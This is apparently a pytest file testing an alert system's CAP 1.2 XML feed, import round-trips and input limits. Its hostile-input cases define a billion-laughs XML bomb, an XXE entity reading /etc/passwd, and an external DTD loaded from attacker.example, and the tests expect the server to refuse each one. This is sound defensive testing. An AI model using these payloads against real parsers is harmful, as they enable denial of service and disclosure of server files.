"""CAP 1.2 through the API: the feed and every message validate, import round-trips, hostile XML."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlparse

import pytest
from lxml import etree

from magen.alerts.cap import PARAM_SECONDS
from magen.alerts.capxml import (
    CAP_NS,
    CapArea,
    CapInfo,
    CapMessage,
    CapRef,
    decode_cap,
    encode_cap,
    validate_cap,
)
from magen.domain.values import Role
from support.apikit import START, Kit, api_kit, cid, ok
from support.bakapack import baka_pack

ATOM = "{http://www.w3.org/2005/Atom}"
UPSTREAM = "alerts@oref.example"
ZONE = "baka-c3"
# A triangle over the middle of Baka, as (lat, lon) the way CAP writes it.
BAKA_TRIANGLE = ((31.7590, 35.2140), (31.7640, 35.2200), (31.7580, 35.2210), (31.7590, 35.2140))
TEL_AVIV = ((32.08, 34.78), (32.09, 34.79), (32.07, 34.79), (32.08, 34.78))


@pytest.fixture(scope="module")
def kit() -> Iterator[Kit]:
    with api_kit(town=baka_pack()) as k:
        yield k


@pytest.fixture
def other() -> Iterator[Kit]:
    with api_kit(town=baka_pack()) as k:
        yield k


def settle(kit: Kit) -> int:
    guidance = kit.client.app.state["runtime"].guidance
    kit.client.blocking_portal.call(guidance.settled)
    return kit.log.head()


def upstream(
    identifier: str,
    *,
    msg_type: str = "Alert",
    event: str = "Rocket and missile fire",
    polygons: tuple[tuple[tuple[float, float], ...], ...] = (),
    zones: tuple[str, ...] = (ZONE,),
    references: tuple[str, ...] = (),
    response: str = "Shelter",
    seconds: tuple[tuple[str, int], ...] = (),
) -> bytes:
    areas = tuple(CapArea(desc=z, geocodes=(("magen:zone", z),)) for z in zones) + tuple(
        CapArea(desc="area", polygons=(p,)) for p in polygons
    )
    message = CapMessage(
        identifier=identifier,
        sender=UPSTREAM,
        sent=START,
        status="Actual",
        msg_type=msg_type,  # type: ignore[arg-type]
        references=tuple(CapRef(sender=UPSTREAM, identifier=r, sent=START) for r in references),
        infos=(
            CapInfo(
                language="en-US",
                categories=("Security",),
                event=event,
                urgency="Immediate",
                severity="Extreme",
                certainty="Observed",
                response_types=(response,),
                instruction="Enter the protected space now.",
                areas=areas,
                parameters=tuple((PARAM_SECONDS, f"{z}={n}") for z, n in seconds),
            ),
        ),
    )
    return encode_cap(message)


def post_cap(
    kit: Kit, data: bytes, role: Role = Role.DISPATCHER, kind: str = "application/cap+xml"
) -> Any:
    return kit.client.post(
        "/api/v1/cap/import", content=data, headers={**kit.auth(role), "Content-Type": kind}
    )


def _issue(kit: Kit, body: dict[str, Any]) -> str:
    r = kit.post(Role.DISPATCHER, "/api/v1/alerts", {"command_id": cid(), **body})
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


# --- export --------------------------------------------------------------------------------


def test_the_feed_and_every_message_in_it_validate_against_the_cap_schema(kit: Kit) -> None:
    alert = _issue(
        kit,
        {
            "category": "missiles",
            "zone_ids": [ZONE, "baka-c4"],
            "seconds_to_shelter": {ZONE: 60},
            "areas": [{"kind": "circle", "lat": 31.76, "lon": 35.216, "radius_m": 400}],
        },
    )
    r = kit.post(
        Role.DISPATCHER,
        f"/api/v1/alerts/{alert}/update",
        {"command_id": cid(), "zone_ids": [ZONE]},
    )
    assert r.status_code == 201, r.text
    r = kit.post(
        Role.DISPATCHER,
        "/api/v1/danger-areas",
        {
            "command_id": cid(),
            "area": {
                "kind": "polygon",
                "ring": [[35.215, 31.760], [35.217, 31.760], [35.216, 31.762]],
            },
            "reason": "armed_attackers",
            "note": "two gunmen & a vehicle <white>",
        },
    )
    assert r.status_code == 201, r.text
    r = kit.post(
        Role.DISPATCHER,
        "/api/v1/guidance/overrides",
        {"command_id": cid(), "action": "lock_in", "zone_ids": ["baka-d3"], "reason": "gunfire"},
    )
    assert r.status_code == 201, r.text
    r = kit.post(Role.DISPATCHER, f"/api/v1/alerts/{alert}/end", {"command_id": cid()})
    assert r.status_code == 201, r.text

    feed = kit.client.get("/api/v1/cap/feed")
    assert feed.status_code == 200
    assert feed.headers["content-type"].startswith("application/atom+xml")
    root = etree.fromstring(feed.content)
    entries = root.findall(f"{ATOM}entry")
    assert len(entries) >= 5  # alert, update, all clear, danger area, override
    kinds = set()
    for entry in entries:
        [alert_el] = entry.find(f"{ATOM}content")  # type: ignore[union-attr]
        data = etree.tostring(alert_el, xml_declaration=True, encoding="UTF-8")
        validate_cap(data)
        kinds.add(decode_cap(data).msg_type)
        link = entry.find(f"{ATOM}link[@rel='alternate']")
        assert link is not None
        single = kit.client.get(urlparse(link.get("href")).path)
        assert single.status_code == 200, single.text
        assert single.headers["content-type"].startswith("application/cap+xml")
        validate_cap(single.content)
        assert decode_cap(single.content).identifier == decode_cap(data).identifier
    assert {"Alert", "Update"} <= kinds


def test_an_unknown_message_is_404(kit: Kit) -> None:
    r = kit.client.get("/api/v1/cap/alerts/magen-alr_nothing.xml")
    assert r.status_code == 404
    assert "no CAP message" in r.json()["reason"]


# --- import --------------------------------------------------------------------------------


def test_import_then_export_round_trips_through_the_api(kit: Kit, other: Kit) -> None:
    alert = _issue(
        other,
        {
            "category": "hostile_aircraft_intrusion",
            "zone_ids": [ZONE, "baka-b3"],
            "seconds_to_shelter": {ZONE: 45},
            "instruction": {"he": "היכנסו למרחב המוגן", "ar": "ادخلوا", "en": "Go in now"},
        },
    )
    sent = other.client.get(f"/api/v1/cap/alerts/magen-{alert}.xml").content
    validate_cap(sent)
    r = post_cap(kit, sent)
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["imported"] is True
    assert [e["type"] for e in body["events"]] == ["AlertIssued"]
    imported = next(
        a
        for a in kit.get(Role.ANONYMOUS, "/api/v1/alerts").json()["alerts"]
        if a["id"] == body["id"]
    )
    original = decode_cap(sent)
    assert imported["upstream"] == {"sender": original.sender, "identifier": original.identifier}
    assert imported["zones"] == [ZONE, "baka-b3"]
    assert imported["seconds_to_shelter"] == {ZONE: 45}
    assert imported["instruction"]["ar"] == "ادخلوا"
    # Exported again, it is this server's own message (CAP 1.2 §3.2.1: the originator's
    # identifier) with the same content, naming the upstream message in its references.
    assert kit.client.get(f"/api/v1/cap/alerts/{original.identifier}.xml").status_code == 404
    back = kit.client.get(f"/api/v1/cap/alerts/magen-{body['id']}.xml")
    assert back.status_code == 200
    validate_cap(back.content)
    again = decode_cap(back.content)
    assert again.identifier == f"magen-{body['id']}"
    assert [(r.sender, r.identifier, r.sent) for r in again.references] == [
        (original.sender, original.identifier, original.sent)
    ]
    assert [(i.language, i.instruction, i.event_codes, i.parameters) for i in again.infos] == [
        (i.language, i.instruction, i.event_codes, i.parameters) for i in original.infos
    ]
    assert [[a.geocodes for a in i.areas] for i in again.infos] == [
        [a.geocodes for a in i.areas] for i in original.infos
    ]


def test_reimport_appends_nothing_whoever_sends_it(kit: Kit) -> None:
    data = upstream(f"up-{cid()}")
    first = post_cap(kit, data)
    assert first.status_code == 201, first.text
    head = settle(kit)
    for role in (Role.DISPATCHER, Role.ADMIN):
        again = post_cap(kit, data, role)
        assert again.status_code == 200, again.text
        assert again.json()["replayed"] is True
        assert again.json()["events"] == first.json()["events"]
    assert settle(kit) == head


def test_updates_and_cancels_follow_their_references(kit: Kit) -> None:
    first = f"up-{cid()}"
    r = post_cap(kit, upstream(first, zones=(ZONE,)))
    assert r.status_code == 201, r.text
    alert_id = r.json()["id"]
    second = f"up-{cid()}"
    r = post_cap(
        kit, upstream(second, msg_type="Update", zones=(ZONE, "baka-c4"), references=(first,))
    )
    assert r.status_code == 201, r.text
    assert r.json()["events"][0]["type"] == "AlertUpdated"
    live = {a["id"]: a for a in kit.get(Role.ANONYMOUS, "/api/v1/alerts").json()["alerts"]}
    assert live[alert_id]["zones"] == [ZONE, "baka-c4"]
    r = post_cap(kit, upstream(f"up-{cid()}", msg_type="Cancel", references=(first, second)))
    assert r.status_code == 201, r.text
    assert r.json()["events"][0]["type"] == "AlertEnded"
    live = {a["id"] for a in kit.get(Role.ANONYMOUS, "/api/v1/alerts").json()["alerts"]}
    assert alert_id not in live


def test_an_area_given_as_a_polygon_alerts_the_zones_it_covers(kit: Kit) -> None:
    r = post_cap(kit, upstream(f"up-{cid()}", zones=(), polygons=(BAKA_TRIANGLE,)))
    assert r.status_code == 201, r.text
    alert = next(
        a
        for a in kit.get(Role.ANONYMOUS, "/api/v1/alerts").json()["alerts"]
        if a["id"] == r.json()["id"]
    )
    assert alert["zones"]
    assert all(z.startswith("baka-") for z in alert["zones"])
    assert alert["areas"][0]["kind"] == "polygon"


def test_a_message_for_another_town_changes_nothing(kit: Kit) -> None:
    head = settle(kit)
    for data in (
        upstream(f"up-{cid()}", zones=(), polygons=(TEL_AVIV,)),
        upstream(f"up-{cid()}", zones=("tel-aviv-7",)),
    ):
        r = post_cap(kit, data)
        assert r.status_code == 200, r.text
        assert r.json()["imported"] is False
        assert r.json()["events"] == []
    assert settle(kit) == head


SELF_CROSSING = ((31.76, 35.21), (31.77, 35.22), (31.76, 35.22), (31.77, 35.21), (31.76, 35.21))

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&secret;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""


def _hostile() -> dict[str, tuple[bytes, str]]:
    valid = upstream("up-template").decode()
    return {
        "xml bomb": (BILLION_LAUGHS, "DTD"),
        "external entity": (EXTERNAL_ENTITY, "DTD"),
        "external dtd": (EXTERNAL_DTD, "DTD"),
        "malformed xml": (
            b"<alert xmlns='" + CAP_NS.encode() + b"'><identifier>x",
            "malformed XML",
        ),
        "not xml": (b"rockets!", "malformed XML"),
        "empty": (b"", "empty"),
        "not cap": (b"<feed xmlns='http://www.w3.org/2005/Atom'/>", "not a CAP 1.2 alert"),
        "schema violation": (valid.replace("<urgency>Immediate</urgency>", "").encode(), "urgency"),
        "self-crossing polygon": (
            upstream("up-cross", zones=(), polygons=(SELF_CROSSING,)),
            "crosses itself",
        ),
        "unknown alert type": (upstream("up-meteor", event="Meteor shower"), "cannot tell"),
        "update of nothing imported": (
            upstream("up-orphan", msg_type="Update", references=("never-seen",)),
            "none of the referenced",
        ),
    }


HOSTILE = _hostile()


@pytest.mark.parametrize("case", list(HOSTILE))
def test_malformed_or_hostile_cap_is_refused_and_appends_nothing(kit: Kit, case: str) -> None:
    data, reason = HOSTILE[case]
    head = settle(kit)
    r = post_cap(kit, data)
    assert 400 <= r.status_code < 500, r.text
    assert reason in r.json()["reason"], r.text
    assert settle(kit) == head


def test_import_takes_only_cap_media_types(kit: Kit) -> None:
    data = upstream(f"up-{cid()}")
    r = post_cap(kit, data, kind="application/json")
    assert r.status_code == 415
    assert "application/cap+xml" in r.json()["reason"]
    assert post_cap(kit, upstream(f"up-{cid()}"), kind="application/xml").status_code == 201


def test_another_towns_zone_and_its_seconds_to_shelter_are_left_out(kit: Kit) -> None:
    """A message naming a zone here and one of another town, each with its seconds to
    shelter: the alert is this town's zone with its own seconds (the other's are not ours)."""
    data = upstream(
        f"up-{cid()}", zones=(ZONE, "ofakim-north"), seconds=((ZONE, 90), ("ofakim-north", 15))
    )
    r = post_cap(kit, data)
    assert r.status_code == 201, r.text
    alerts = ok(kit.get(Role.DISPATCHER, "/api/v1/picture"))["alerts"]
    alert = next(a for a in alerts if a["id"] == r.json()["id"])
    assert alert["zones"] == [ZONE]
    assert alert["seconds_to_shelter"] == {ZONE: 90}


def test_an_oversized_document_is_refused(kit: Kit) -> None:
    head = settle(kit)
    big = upstream(f"up-{cid()}").replace(b"Enter the protected", b"x" * 1_100_000 + b" Enter")
    r = post_cap(kit, big)
    assert r.status_code == 413
    # The reason names this address's own limit, not the server's usual 64 KiB.
    assert "larger than 1000000 bytes" in r.json()["reason"]
    assert settle(kit) == head


def test_the_import_is_dated_by_the_message(kit: Kit) -> None:
    r = post_cap(kit, upstream(f"up-{cid()}", zones=("baka-e1",)))
    assert r.status_code == 201
    alert = next(
        a
        for a in kit.get(Role.ANONYMOUS, "/api/v1/alerts").json()["alerts"]
        if a["id"] == r.json()["id"]
    )
    assert datetime.fromisoformat(alert["issued_at"]) == START.astimezone(UTC)
    assert alert["source"] == "cap"
